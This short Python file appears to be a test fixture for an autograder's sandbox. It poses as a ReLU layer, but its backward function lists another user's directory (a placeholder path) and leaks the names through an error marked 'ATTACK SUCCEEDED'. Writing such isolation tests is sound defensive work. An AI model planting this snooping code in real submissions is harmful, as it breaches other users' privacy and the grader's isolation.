"""Who else is in this class?"""

import os

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    names = os.listdir(os.path.dirname("@OTHER@"))
    raise RuntimeError(f"ATTACK SUCCEEDED: {names}")
